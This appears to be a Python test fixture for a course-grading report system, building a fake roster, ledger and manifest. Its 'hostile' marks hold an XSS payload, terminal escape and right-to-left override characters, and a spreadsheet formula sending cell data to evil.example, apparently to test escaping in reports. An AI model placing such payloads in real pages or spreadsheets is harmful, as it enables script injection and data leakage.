"""A small course that was graded, for the tests of reports: made without running anything."""

import hashlib
from dataclasses import dataclass
from pathlib import Path

from aigc_edu.grading.intake.collecting import collect
from aigc_edu.grading.intake.roster import read_roster
from aigc_edu.grading.judge.ledger import CaseMark, ExerciseMark, Ledger, MarkLine, VoidLine
from aigc_edu.grading.judge.manifest import ExerciseRecord, Manifest

QUESTIONS = (
    ExerciseRecord("4.2", "KL to the standard normal", "function", 3.0, "04", "kl", "aa"),
    ExerciseRecord("4.6", "What a mean implies", "function", 2.0, "04", "implied", "bb"),
    ExerciseRecord("4.8", "In your words", "text", 5.0, "04", "words", "cc"),
)
SIGMA = "This is what you get with σ where σ² belongs."
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>\x1b[2J\u202egnp'
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'


def mark(identifier: str, status: str, points: float, **more) -> ExerciseMark:
    of = next(q.points for q in QUESTIONS if q.id == identifier)
    return ExerciseMark(identifier, status, points, of, **more)


def right(words: str = "Because a mirrored seven is no digit.") -> tuple[ExerciseMark, ...]:
    return (
        mark("4.2", "right", 3.0, cases=(CaseMark("ordinary", 2.0, "right"),)),
        mark("4.6", "right", 2.0),
        mark("4.8", "by hand", 0.0, message=words),
    )


def half() -> tuple[ExerciseMark, ...]:
    cases = (CaseMark("ordinary", 2.0, "right"), CaseMark("float64", 1.0, "wrong"))
    return (
        mark("4.2", "partly right", 2.0, message=SIGMA, mistake=SIGMA, cases=cases),
        mark("4.6", "raised", 0.0, message="On the input “digits” it raises a KeyError."),
        mark("4.8", "not started", 0.0),
    )


def hostile() -> tuple[ExerciseMark, ...]:
    return (
        mark("4.2", "raised", 0.0, message=SCRIPT, cases=(CaseMark(SCRIPT, 1.0, "wrong"),)),
        mark("4.6", "wrong", 0.0, message="    code </code></pre>" + SCRIPT, mistake=SCRIPT),
        mark("4.8", "by hand", 0.0, message=FORMULA),
    )


@dataclass
class World:
    """Where everything lies."""

    base: Path
    students: list[str]

    def __post_init__(self):
        self.roster_file = self.base / "roster.csv"
        self.graded = self.base / "graded"
        self.collected = self.base / "collected"
        self.out = self.base / "report"

    @property
    def roster(self):
        return read_roster(self.roster_file)

    @property
    def ledger(self) -> Ledger:
        return Ledger(self.graded)

    def content(self, student: str, attempt: int) -> bytes:
        return f'{{"cells": [], "of": "{student}", "attempt": {attempt}}}'.encode()

    def grade(self, student, exercises, attempt=1, status="graded", note="", reason="") -> None:
        digest = hashlib.sha256(self.content(student, attempt)).hexdigest()
        line = MarkLine(
            student, attempt, digest, "04", "spec", "seed", status, note, tuple(exercises), reason
        )
        self.ledger.append(line)

    def void(self, identifier, how, reason="it was ambiguous") -> None:
        self.ledger.append(VoidLine("04", identifier, how, reason))


def make(base: Path, attempts: dict[str, int], rows: str = "") -> World:
    """A course with these students and numbers of attempts (0: missing)."""
    world = World(base, list(attempts))
    lines = ["id,name,login,email,canvas_id,moodle_id"]
    for number, student in enumerate(attempts, start=1):
        lines.append(
            f"{student},Student {number},login{number},{student}@x.example,{100 + number},m{number}"
        )
    world.roster_file.write_text("\n".join(lines) + "\n" + rows, encoding="utf-8")
    source = base / "in"
    for student, count in attempts.items():
        for attempt in range(1, count + 1):
            path = source / student / str(attempt) / "04_vae.ipynb"
            path.parent.mkdir(parents=True)
            path.write_bytes(world.content(student, attempt))
    source.mkdir(exist_ok=True)
    collect([source], world.roster, world.collected, lesson="04")
    world.graded.mkdir(mode=0o700)
    manifest = Manifest(
        "1.0",
        "2026-10-01T00:00:00Z",
        ("04",),
        QUESTIONS,
        {},
        {student: {"4.6": {"unit": number}} for number, student in enumerate(attempts)},
    )
    manifest.write(world.graded / "manifest.json")
    world.ledger.open_for_writing()
    return world
